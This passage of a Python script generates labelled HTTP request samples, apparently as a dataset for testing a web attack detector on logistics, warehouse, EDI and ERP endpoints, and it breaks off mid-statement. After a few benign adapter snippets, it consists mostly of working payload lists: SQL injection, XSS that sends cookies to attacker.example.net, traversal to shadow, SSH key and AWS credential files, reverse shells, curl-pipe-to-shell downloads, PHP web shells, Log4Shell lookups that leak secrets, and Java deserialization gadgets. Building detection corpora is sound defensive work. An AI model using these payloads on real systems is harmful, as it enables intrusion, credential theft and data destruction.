        "const seg = raw.split('~').map(s => s.trim().split('*'));\nconst st = seg.find(([id]) => id === 'ST');\nif (st?.[1] !== '214') throw new Error(`unexpected ${st?.[1]}`);\n",
        "fetch(`https://track.example.net/api/v2/track?awb=${encodeURIComponent(awb)}`, { headers: { Authorization: `Bearer ${token}` } })\n  .then(r => r.json()).then(j => document.querySelector('#eta').textContent = j.eta);",
    ]
    jq = [
        '.events | map(select(.status == "DELIVERED")) | .[] | {waybill: .trackingNumber, who: (.signedBy // "n/a")}',
        '[.stops[] | {id, lat, lng, tw: (.window | join("-"))}] | sort_by(.tw)',
        '.shipments[] | select(.weightKg >= 100 and (.lane | test("^CN-SHA\\|US-"))) | .id',
    ]
    for snip in js:
        body = json.dumps({"name": "adapter-%s.js" % digits(3), "runtime": "node20", "code": snip})
        c.add("adapter-script", "dev-content", "PUT", "/api/adapters/%s/code" % pick(["ups", "dhl", "fedex"]), hb(H_INTEG, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    for snip in jq:
        body = json.dumps({"webhook": "carrier-%s" % pick(["ups", "dhl"]), "transform": {"type": "jq", "expr": snip}})
        c.add("adapter-script", "dev-content", "POST", "/api/webhooks/transforms", hb(H_INTEG, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        c.add("adapter-script", "dev-content", "GET", "/api/webhooks/transforms/test?" + qs([("expr", snip)], plus=False), hbrowser(H_INTEG, accept="application/json"))


# ---------------------------------------------------------------------------
# Attacks
# ---------------------------------------------------------------------------

ATK = "attacker.example.net"
OOB = "oob.example.org"

SQLI = [
    "' OR '1'='1",
    "1Z999AA10123456784' OR 1=1-- -",
    "' UNION SELECT username,password_hash,NULL,NULL FROM users--",
    "1' AND (SELECT 5821 FROM (SELECT(SLEEP(5)))xYzq)-- kLmn",
    "'; WAITFOR DELAY '0:0:7'--",
    "1';SELECT pg_sleep(6);--",
    "' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- ",
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "') OR ('a'='a",
    "\" OR \"\"=\"",
    "-1 UNION ALL SELECT 1,2,table_name,4 FROM information_schema.tables#",
    "1 AND updatexml(1,concat(0x3a,(select user())),1)",
    "'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual)||'",
    "1;DROP TABLE shipments--",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "admin'/**/OR/**/1=1/**/--",
    "1%' AND 2>1 AND '%'='",
    "' UNION/*!50000SELECT*/ 1,concat(user,0x3a,authentication_string),3 FROM mysql.user-- -",
    "1 OR (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "'; EXEC master..xp_cmdshell 'ping 198.51.100.23'--",
    "1' ORDER BY 14-- -",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)",
    "' OR sqlite_version()>0--",
    "x' AND (SELECT 1 FROM pg_sleep(5)) IS NULL AND 'x'='x",
]


def attacks_sqli(c):
    carriers = ["ups", "fedex", "dhl", "maersk"]
    for i, p in enumerate(SQLI):
        k = i % 6
        if k == 0:
            c.add("sqli-track-path", "sqli", "GET", "/api/v2/track/%s/%s" % (pick(carriers), qv(p)), hb(H_TRACK, extra=[("Authorization", bearer())]))
        elif k == 1:
            c.add("sqli-track-query", "sqli", "GET", "/api/v2/track?" + qs([("carrier", "UPS"), ("awb", p)]), hb(H_TRACK, ua=pick(UA_API)))
        elif k == 2:
            c.add("sqli-bin", "sqli", "GET", "/api/bins/%s/stock" % qv("A-01-03" + p), hb(H_WMS, extra=[("Authorization", bearer())]))
        elif k == 3:
            body = json.dumps({"pickListId": "PL-" + digits(7) + p, "lines": [{"bin": bin_loc(), "sku": pick(SKUS), "qty": 1}]})
            c.add("sqli-json", "sqli", "POST", "/api/picklists", hb(H_WMS, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        elif k == 4:
            c.add("sqli-portal", "sqli", "GET", "/shipments?" + qs([("q", p), ("status", "all")]), hbrowser(H_PORTAL))
        else:
            body = qs([("waybill", p), ("postcode", "60607")])
            c.add("sqli-form", "sqli", "POST", "/track/lookup", hbrowser(H_TRACK, extra=[("Content-Type", "application/x-www-form-urlencoded")], cookie=False), body)
    # OData $filter / $orderby injection into a SQL-backed OData layer
    odata = [
        "Status eq 'OPEN'') OR 1=1--",
        "ShipDate ge 2026-01-01 and Status eq 'OPEN'; DROP TABLE Shipments;--'",
        "Status eq 'x' UNION SELECT Username,Password,null FROM Users--'",
        "Waybill eq '1' AND (SELECT SLEEP(5))='",
        "Plant eq '1000' or 1 eq 1) or (1=1--",
        "substringof(''',ConsigneeName) eq true; WAITFOR DELAY '0:0:5'--",
    ]
    for p in odata:
        uri = "/sap/opu/odata/sap/ZSHIPMENT_SRV/Shipments?" + qs([("$filter", p), ("$format", "json")], plus=False)
        c.add("sqli-odata", "sqli", "GET", uri, hb(H_ERP, extra=[("Authorization", bearer()), ("sap-client", "100")]))
    for p in ["ShipDate,(SELECT CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN 1 ELSE 1/0 END)",
              "(select 1 from (select sleep(6))a)", "ShipDate desc;SELECT pg_sleep(5)--"]:
        c.add("sqli-odata", "sqli", "GET", "/odata/v4/logistics/Shipments?" + qs([("$orderby", p), ("$top", "10")], plus=False), hb(H_ERP, extra=[("Authorization", bearer())]))
    # rate filters, cookies, headers, EDI fields
    for p in ["100 OR 1=1", "100) UNION SELECT api_key,2,3 FROM partners-- -", "100;SELECT SLEEP(5)#"]:
        c.add("sqli-rates", "sqli", "GET", "/api/rates?" + qs([("filter", "weight>=" + p), ("lane", "CN-SHA|US-LAX")], plus=False), hb(H_RATES, extra=[("X-Api-Key", hexs(32))]))
    c.add("sqli-cookie", "sqli", "GET", "/dashboard", hbrowser(H_PORTAL, cookie=False, extra=[("Cookie", "session=%s; warehouse=DC-EAST'%%20AND%%20SLEEP(5)--%%20" % hexs(32))]))
    c.add("sqli-cookie", "sqli", "GET", "/api/shipments", hbrowser(H_PORTAL, accept="application/json", cookie=False, extra=[("Cookie", "tenant=1 UNION SELECT password FROM users; session=%s" % hexs(32))]))
    c.add("sqli-header", "sqli", "GET", "/api/v2/shipments", hb(H_TRACK, extra=[("X-Tenant-Id", "acme' OR '1'='1"), ("Authorization", bearer())]))
    body = x12_envelope(x12_214(ref="1Z999' UNION SELECT password FROM partners--"), "QM")
    c.add("sqli-edi", "sqli", "POST", "/as2/receive", as2_headers("application/edi-x12"), body)
    body = edifact("IFTMIN", iftmin_lines(consignee="X?' OR 1=1 --"))
    c.add("sqli-edi", "sqli", "POST", "/edi/inbound/edifact", as2_headers("application/EDIFACT"), body.replace("X?' OR 1=1 --", "X'; DELETE FROM consignees WHERE '1'='1"))


XSS = [
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//%s/c?'+document.cookie)>" % ATK,
    "\"><script src=https://%s/x.js></script>" % ATK,
    "<details open ontoggle=alert`1`>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "javascript:alert(document.cookie)",
    "'-alert(1)-'",
    "</textarea><script>new Image().src='https://%s/?c='+document.cookie</script>" % ATK,
    "<body onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<a href=\"jav&#x09;ascript:alert(1)\">track</a>",
    "<img src=1 oNeRrOr=confirm(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<marquee onstart=alert(1)>",
    "<ScRiPt>window['al'+'ert'](1)</sCrIpT>",
    "<img src=x:x onerror=import('//%s/p.js')>" % ATK,
    "%3Cscript%3Ealert(1)%3C/script%3E",
]


def attacks_xss(c):
    for i, p in enumerate(XSS):
        k = i % 6
        if k == 0:
            body = qs([("consignee", p), ("attn", pick(PEOPLE)), ("city", "Lyon"), ("notes", "deliver am"), ("_csrf", hexs(32))])
            c.add("xss-consignee", "xss", "POST", "/shipments/new", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + H_PORTAL)]), body)
        elif k == 1:
            body = json.dumps({"deliveryInstructions": p, "consigneeName": pick(COMPANIES)})
            c.add("xss-note", "xss", "PATCH", "/api/shipments/SHP%s" % digits(7), hbrowser(H_PORTAL, accept="application/json", extra=[("Content-Type", "application/json")]), body)
        elif k == 2:
            c.add("xss-search", "xss", "GET", "/shipments?" + qs([("q", p)]), hbrowser(H_PORTAL))
        elif k == 3:
            ct, body = multipart([("waybill", waybill()), ("receivedBy", p), ("signature", fake_png_dataurl(40))], style="okhttp")
            c.add("xss-pod", "xss", "POST", "/api/v3/stops/%s/pod" % digits(8), hb(H_DRIVER, ua=pick(UA_MOBILE), extra=[("Content-Type", ct), ("Authorization", bearer())]), body)
        elif k == 4:
            c.add("xss-track", "xss", "GET", "/track/%s?%s" % (ups_tracking(), qs([("ref", p)], plus=False)), hbrowser(H_TRACK, cookie=False))
        else:
            body = json.dumps({"trackingNumber": ups_tracking(), "status": "DELIVERED", "signedBy": p, "timestamp": pick(TS)})
            c.add("xss-webhook", "xss", "POST", "/hooks/carrier/ups", hb(H_TRACK, extra=[("Content-Type", "application/json")]), body)
    # stored XSS through EDI names and UBL notes, SVG signatures
    body = x12_envelope(x12_204(name1="<script>alert(1)</script>"), "SM")
    c.add("xss-edi", "xss", "POST", "/as2/receive", as2_headers("application/edi-x12"), body)
    body = edifact("IFTMIN", iftmin_lines(consignee="<img src=x onerror=alert(document.cookie)>"))
    c.add("xss-edi", "xss", "POST", "/edi/inbound/edifact", as2_headers("application/EDIFACT"), body)
    body = ubl_despatch(note="<![CDATA[<svg onload=alert(document.domain)>]]>")
    c.add("xss-ubl", "xss", "POST", "/api/despatch-advice", hb(H_CUSTOMS, accept="application/xml", extra=[("Content-Type", "application/xml")]), body)
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><path d="M10 60 L240 55"/><script>fetch("https://%s/s?"+document.cookie)</script></svg>' % ATK
    ct, body = multipart([("waybill", waybill()), ("receivedBy", "J Smith"), ("signature", "signature.svg", "image/svg+xml", svg)], style="okhttp")
    c.add("xss-svg", "xss", "POST", "/api/v3/stops/%s/pod" % digits(8), hb(H_DRIVER, ua=pick(UA_MOBILE), extra=[("Content-Type", ct), ("Authorization", bearer())]), body)
    c.add("xss-header", "xss", "GET", "/track/%s" % ups_tracking(), hbrowser(H_TRACK, extra=[("Referer", "https://www.example.org/\"><script>alert(1)</script>")]))
    c.add("xss-path", "xss", "GET", "/track/%s" % qv("<svg onload=alert(1)>"), hbrowser(H_TRACK, cookie=False))
    c.add("xss-hl7", "xss", "POST", "/hl7/inbound", hb(H_HL7, extra=[("Content-Type", "application/hl7-v2")]),
          hl7_rde(patient="<script>alert(1)</script>^JANE"))
    c.add("xss-csv", "xss", "POST", "/api/manifests/upload", *(lambda ct_b: (hbrowser(H_WMS, accept="application/json", extra=[("Content-Type", ct_b[0])]), ct_b[1]))(
        multipart([("warehouse", "DC-EAST"), ("file", "manifest.csv", "text/csv",
                                                 '"Manifest No","SKU","Description","Qty"\r\n"M1","SKU-1","<img src=x onerror=alert(document.cookie)>",3\r\n')])))


LFI = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/proc/self/environ",
    "../../../../proc/self/cmdline",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "../../WEB-INF/web.xml",
    "/etc/passwd%00.pdf",
    "../../../../../../var/log/nginx/access.log",
    "..%5c..%5c..%5cboot.ini",
    "../../../../root/.ssh/id_rsa",
    "..;/..;/..;/WEB-INF/classes/application.properties",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/../../../../opt/edi/certs/private.key",
    "..%u2216..%u2216..%u2216etc%u2216passwd",
    "file:///etc/passwd",
    "../../../../home/edi/.aws/credentials",
    "/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "../../../../../../etc/passwd%2500",
]


def lfi_uri(prefix, param, p, raw_encoded):
    # payloads that already carry their own (evasive) encoding are sent as the attack tool sends them
    if raw_encoded:
        return "%s?%s=%s" % (prefix, param, p)
    return "%s?%s" % (prefix, qs([(param, p)], plus=False))


def attacks_lfi(c):
    for i, p in enumerate(LFI):
        enc = "%" in p
        k = i % 5
        if k == 0:
            uri = lfi_uri("/api/documents/download", "bol", p, enc)
        elif k == 1:
            uri = lfi_uri("/api/documents/download", "invoice", p, enc)
        elif k == 2:
            uri = lfi_uri("/files", "pod", p, enc)
        elif k == 3:
            uri = "/api/documents/pod/%s/%s" % (digits(8), p if enc else quote(p, safe="./\\;:"))
        else:
            uri = lfi_uri("/api/labels/render", "template", p, enc)
        hdr = hbrowser(H_PORTAL, accept="*/*") if i % 2 else hb(H_PORTAL, ua=pick(["curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1"]), accept="*/*")
        c.add("lfi-download", "lfi", "GET", uri, hdr)
    # JSON / form / multipart carriers
    body = json.dumps({"documents": [{"type": "bol", "path": "../../../../etc/passwd"}], "zip": True})
    c.add("lfi-json", "lfi", "POST", "/api/documents/bundle", hb(H_PORTAL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    body = json.dumps({"report": "daily", "outputPath": "..\\..\\..\\inetpub\\wwwroot\\web.config"})
    c.add("lfi-json", "lfi", "POST", "/api/reports/run", hb(H_PORTAL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    body = qs([("report", "daily-shipments"), ("format", "csv"), ("filename", "../../../../../etc/cron.d/edi"), ("_csrf", hexs(32))])
    c.add("lfi-form", "lfi", "POST", "/reports/export", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)
    ct, body = multipart([("waybill", waybill()), ("photo", "../../../../var/www/html/shell.jpg", "image/jpeg", "GIF89a;")], style="okhttp")
    c.add("lfi-upload-name", "lfi", "POST", "/api/v3/stops/%s/pod" % digits(8), hb(H_DRIVER, ua=pick(UA_MOBILE), extra=[("Content-Type", ct)]), body)
    c.add("lfi-path", "lfi", "GET", "/static/../../../../etc/passwd", hb(H_PORTAL, ua="curl/8.5.0", accept="*/*"))
    c.add("lfi-path", "lfi", "GET", "/as2/..%2f..%2f..%2fetc%2fpasswd", hb(H_EDI, ua="curl/8.5.0", accept="*/*"))
    c.add("lfi-header", "lfi", "GET", "/api/documents/current", hb(H_PORTAL, extra=[("X-Document-Path", "../../../../etc/shadow")]))
    c.add("lfi-cookie", "lfi", "GET", "/portal/home", hbrowser(H_PORTAL, cookie=False, extra=[("Cookie", "session=%s; lang=../../../../../etc/passwd" % hexs(32))]))


RFI = [
    "http://%s/shell.txt?" % ATK,
    "https://%s/labels/evil.php" % ATK,
    "http://%s/c99.txt%%00" % ATK,
    "ftp://%s/pub/inc.txt" % ATK,
    "//%s/r57.txt?" % ATK,
    "http://198.51.100.23/x.txt?",
    "https://%s/zpl/default.tpl?cmd=id" % ATK,
    "\\\\%s\\share\\payload.php" % ATK,
]


def attacks_rfi(c):
    params = [("/index.php", "page"), ("/api/labels/render", "template"), ("/reports/view.php", "include"), ("/edi/viewer.php", "lang"),
              ("/portal/index.php", "module"), ("/label.php", "tpl"), ("/tracking.php", "carrier_file"), ("/help/index.php", "doc")]
    for i, p in enumerate(RFI):
        path, param = params[i % len(params)]
        if "%00" in p:
            uri = "%s?%s=%s" % (path, param, p)
        else:
            uri = "%s?%s" % (path, qs([(param, p)], plus=False))
        c.add("rfi", "rfi", "GET", uri, hb(pick([H_PORTAL, H_LABEL, H_EDI]), ua=pick(UA_BROWSER + ["curl/8.5.0"]), accept="*/*"))
    body = qs([("carrier", "ups"), ("rate_table", "http://%s/rates.php?" % ATK)])
    c.add("rfi", "rfi", "POST", "/rates/import.php", hbrowser(H_RATES, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)
    c.add("rfi", "rfi", "GET", "/include.php?file=" + qv("http://%s/sh.txt?" % ATK) + "&cmd=id", hb(H_PORTAL, ua="Mozilla/5.0", accept="*/*"))


RCE = [
    "ZD621-DOCK3; cat /etc/passwd",
    "zebra01|id",
    "ZT411`wget http://%s/x -O /tmp/x`" % ATK,
    "ZD621$(curl -s http://%s/s.sh|sh)" % ATK,
    "printer1 && nc -e /bin/sh 198.51.100.7 4444",
    "pdf;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "csv|powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://%s/a.ps1')\"" % ATK,
    "xlsx\nid",
    "pdf;${IFS}cat${IFS}/etc/shadow",
    "report.csv & ping -n 5 198.51.100.23 &",
    "pdf || whoami",
    "$(sleep${IFS}10)",
    "x;/bin/busybox wget http://198.51.100.7/mips -O- | sh",
    "pdf';python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")';'",
    "a;curl http://%s/`whoami`" % OOB,
    "%0Auname%20-a",
    "x|cmd.exe /c type C:\\Windows\\win.ini",
    "4x6;rm -rf /opt/edi/outbox/*",
    "zebra-07;echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh",
    "$(nslookup $(whoami).%s)" % OOB,
]


def attacks_rce(c):
    for i, p in enumerate(RCE):
        k = i % 5
        if p.startswith("%0A"):
            uri = "/api/labels/render?shipment=SHP%s&format=zpl&printer=%s" % (digits(7), p)
            c.add("rce-label", "rce", "GET", uri, hb(H_LABEL, ua="curl/8.5.0", accept="*/*"))
            continue
        if k == 0:
            body = json.dumps({"printer": p, "copies": 1, "shipments": ["SHP" + digits(7)]})
            c.add("rce-print", "rce", "POST", "/api/labels/print", hb(H_LABEL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        elif k == 1:
            c.add("rce-label", "rce", "GET", "/api/labels/render?" + qs([("shipment", "SHP" + digits(7)), ("format", "zpl"), ("printer", p)], plus=False), hb(H_LABEL, accept="*/*"))
        elif k == 2:
            body = qs([("report", "daily-shipments"), ("from", "2026-01-01"), ("to", "2026-01-31"), ("format", p), ("_csrf", hexs(32))])
            c.add("rce-export", "rce", "POST", "/reports/export", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)
        elif k == 3:
            body = qs([("report", "carrier-scorecard"), ("format", "csv"), ("filename", "out.csv" + p)])
            c.add("rce-export", "rce", "POST", "/reports/export", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)
        else:
            c.add("rce-ping", "rce", "GET", "/api/printers/ping?" + qs([("host", "10.20.4.17" + (p if p[0] in ";|&$`" else ";" + p))]), hb(H_LABEL, accept="application/json", extra=[("Authorization", bearer())]))
    # SFTP partner config, webhook test, cookie, header, ZPL with embedded shell
    body = json.dumps({"partner": "ACMEFREIGHT", "protocol": "sftp", "host": "sftp.example.net", "port": 22, "remoteDir": "/outbound;curl http://%s/p|bash" % ATK})
    c.add("rce-json", "rce", "POST", "/api/partners/ACMEFREIGHT/transport", hb(H_INTEG, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    body = json.dumps({"convert": {"input": "label.zpl", "output": "label.png", "options": "-density 203 -resize 812x1218 ; id > /tmp/pwn"}})
    c.add("rce-json", "rce", "POST", "/api/labels/convert", hb(H_LABEL, extra=[("Content-Type", "application/json")]), body)
    c.add("rce-header", "rce", "GET", "/cgi-bin/label.cgi", hb(H_LABEL, ua="() { :; }; /bin/bash -c 'cat /etc/passwd'", accept="*/*"))
    c.add("rce-header", "rce", "GET", "/cgi-bin/edi-status.sh", hb(H_EDI, ua="curl/8.5.0", accept="*/*", extra=[("Referer", "() { ignored; }; echo; /usr/bin/id")]))
    c.add("rce-cookie", "rce", "GET", "/reports/latest", hbrowser(H_PORTAL, cookie=False, extra=[("Cookie", "session=%s; export_dir=/tmp;wget%%20http://%s/x%%20-O-|sh" % (hexs(32), ATK))]))
    ct, body = multipart([("report", "dwell-time"), ("format", "pdf"), ("watermark", "CONFIDENTIAL`id`"), ("logo", "logo.png;touch /tmp/x", "image/png", "\x89PNG")])
    c.add("rce-multipart", "rce", "POST", "/reports/export", hbrowser(H_PORTAL, extra=[("Content-Type", ct)]), body)
    # ImageMagick-style delegate abuse in label image conversion
    mvg = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://%s/label.jpg\"|ls \"-la)'\npop graphic-context\n" % ATK
    ct, body = multipart([("label", "label.mvg", "image/png", mvg)])
    c.add("rce-imagetragick", "rce", "POST", "/api/labels/images", hbrowser(H_LABEL, accept="application/json", extra=[("Content-Type", ct)]), body)


PHP = [
    ("/api/documents/download", "bol", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("/index.php", "page", "php://filter/read=string.rot13/resource=index.php"),
    ("/label.php", "tpl", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("/files", "pod", "phar://uploads/pod/2026/01/sig.jpg/x.txt"),
    ("/edi/viewer.php", "lang", "expect://id"),
    ("/index.php", "page", "php://input"),
    ("/reports/view.php", "include", "zip://uploads/manifest.zip%23shell.php"),
]


def attacks_php(c):
    for path, param, p in PHP:
        if "%23" in p:
            uri = "%s?%s=%s" % (path, param, p)
        else:
            uri = "%s?%s" % (path, qs([(param, p)], plus=False))
        body = None
        hdr = hb(pick([H_PORTAL, H_LABEL]), ua=pick(UA_BROWSER + ["curl/8.5.0"]), accept="*/*")
        if p == "php://input":
            body = "<?php system('id'); ?>"
            hdr.append(("Content-Type", "application/x-www-form-urlencoded"))
            c.add("php-wrapper", "php", "POST", uri, hdr, body)
        else:
            c.add("php-wrapper", "php", "GET", uri, hdr)
    ct, body = multipart([("waybill", waybill()), ("receivedBy", "X"), ("photo", "pod.php", "image/jpeg", "GIF89a\n<?php echo shell_exec($_REQUEST['c']); ?>")], style="okhttp")
    c.add("php-upload", "php", "POST", "/api/v3/stops/%s/pod" % digits(8), hb(H_DRIVER, ua=pick(UA_MOBILE), extra=[("Content-Type", ct)]), body)
    ct, body = multipart([("warehouse", "DC-EAST"), ("file", "manifest.csv.phtml", "text/csv", "<?=`$_GET[x]`?>")])
    c.add("php-upload", "php", "POST", "/api/manifests/upload", hbrowser(H_WMS, accept="application/json", extra=[("Content-Type", ct)]), body)
    ct, body = multipart([("label", "logo.jpg", "image/jpeg", "\xff\xd8\xff\xe0<?php eval(base64_decode($_POST['z'])); ?>")])
    c.add("php-upload", "php", "POST", "/api/labels/images", hbrowser(H_LABEL, accept="application/json", extra=[("Content-Type", ct)]), body)
    obj = 'O:8:"PickList":1:{s:4:"file";s:23:"/var/www/html/shell.php";}'
    c.add("php-object", "php", "GET", "/picklists/view", hbrowser(H_WMS, cookie=False, extra=[("Cookie", "wms_prefs=%s; PHPSESSID=%s" % (qv(obj), hexs(26)))]))
    obj2 = 'a:2:{i:0;O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}i:1;s:2:"id";}'
    c.add("php-object", "php", "POST", "/api/cart/restore", hb(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]), qs([("state", obj2)]))
    c.add("php-code", "php", "GET", "/index.php?" + qs([("s", "/index/\\think\\app/invokefunction"), ("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")], plus=False), hb(H_PORTAL, ua="Mozilla/5.0", accept="*/*"))
    c.add("php-code", "php", "POST", "/tracking.php", hb(H_TRACK, ua="Mozilla/5.0", accept="*/*", extra=[("Content-Type", "application/x-www-form-urlencoded")]),
          qs([("awb", "1Z999"), ("callback", "assert"), ("data", "phpinfo();")]))


L4J = [
    "${jndi:ldap://%s:1389/Exploit}" % ATK,
    "${jndi:rmi://198.51.100.7:1099/obj}",
    "${${lower:j}ndi:${lower:l}dap://%s/a}" % OOB,
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/x}" % OOB,
    "${jndi:dns://%s/edi}" % OOB,
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/b}" % OOB,
    "${jndi:ldaps://%s/${env:AWS_SECRET_ACCESS_KEY}}" % OOB,
    "${${upper:j}ndi:ldap://%s/${sys:java.version}}" % OOB,
    "${jndi:${lower:l}${lower:d}a${lower:p}://%s/c}" % OOB,
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/d}" % OOB,
]


def attacks_java(c):
    # Log4Shell in EDI partner ids and headers
    for i, p in enumerate(L4J):
        k = i % 5
        if k == 0:
            c.add("log4shell-as2", "java", "POST", "/as2/receive", as2_headers("application/edi-x12", sender=p), x12_envelope(x12_997(), "FA"))
        elif k == 1:
            body = x12_envelope(x12_214(), "QM", sender="XSENDERX")
            body = body.replace("XSENDERX       ", p).replace("XSENDERX", p)
            c.add("log4shell-isa", "java", "POST", "/edi/inbound/x12", as2_headers("application/edi-x12"), body)
        elif k == 2:
            body = edifact("DESADV", desadv_lines(), sender=p.replace(":", "?:").replace("+", "?+"))
            c.add("log4shell-unb", "java", "POST", "/edi/inbound/edifact", as2_headers("application/EDIFACT"), body)
        elif k == 3:
            c.add("log4shell-track", "java", "GET", "/api/v2/track?" + qs([("carrier", "UPS"), ("awb", p)], plus=False),
                  hb(H_TRACK, ua=p if i % 2 else pick(UA_API), extra=[("X-Api-Version", p)]))
        else:
            c.add("log4shell-partner", "java", "GET", "/api/partners?" + qs([("search", p), ("qualifier", "ZZ")]),
                  hbrowser(H_PORTAL, accept="application/json", extra=[("X-Forwarded-For", p)]))
    c.add("log4shell-header", "java", "GET", "/as2/", [("Host", H_EDI), ("User-Agent", "${jndi:ldap://%s/ua}" % OOB), ("Accept", "*/*"), ("Referer", "${jndi:ldap://%s/ref}" % OOB)])
    c.add("log4shell-hl7", "java", "POST", "/hl7/inbound", hb(H_HL7, extra=[("Content-Type", "application/hl7-v2")]),
          hl7_rde().replace("PHARMSYS|CENTRALFILL", "${jndi:ldap://%s/h}|CENTRALFILL" % OOB))
    # Java deserialisation against the TMS endpoints
    ser = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01sr\x00\x0cjava.net.URL\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04portL\x00\tauthorityt\x00\x12Ljava/lang/String;").decode()
    cc = base64.b64encode(b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xpsr\x00*org.apache.commons.collections.map.LazyMap").decode()
    c.add("deser-cookie", "java", "GET", "/tms/dashboard", hbrowser(H_PORTAL, cookie=False, extra=[("Cookie", "JSESSIONID=%s; rememberMe=%s" % (hexs(32).upper(), cc))]))
    c.add("deser-body", "java", "POST", "/tms/api/session/restore", hb(H_PORTAL, ua="Java/1.8.0_181", extra=[("Content-Type", "application/json")]), json.dumps({"state": ser, "encoding": "java-serialized"}))
    c.add("deser-body", "java", "POST", "/tms/remoting/ShipmentService", hb(H_PORTAL, ua="Java/1.8.0_181", accept="*/*", extra=[("Content-Type", "text/plain")]), cc)
    c.add("deser-json", "java", "POST", "/tms/api/loads", hb(H_PORTAL, extra=[("Content-Type", "application/json")]),
          json.dumps({"loadId": "LD" + digits(7), "carrier": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://%s:1389/Obj" % ATK, "autoCommit": True}]}))
    c.add("deser-json", "java", "POST", "/tms/api/rates/import", hb(H_PORTAL, extra=[("Content-Type", "application/json")]),
          json.dumps({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.7:1099/Exploit", "autoCommit": True}))
    c.add("deser-json", "java", "POST", "/tms/api/shipments", hb(H_PORTAL, extra=[("Content-Type", "application/json")]),
          json.dumps({"shipment": {"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://%s/x" % ATK}}))
    xstream = ('<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
               '<target class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>curl http://%s/x|sh</string></command></target>'
               '<action>start</action></handler></dynamic-proxy></sorted-set>') % ATK
    c.add("deser-xstream", "java", "POST", "/tms/rest/shipments", hb(H_PORTAL, extra=[("Content-Type", "application/xml")], accept="application/xml"), xstream)
    c.add("deser-viewstate", "java", "POST", "/tms/faces/tracking.xhtml", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]),
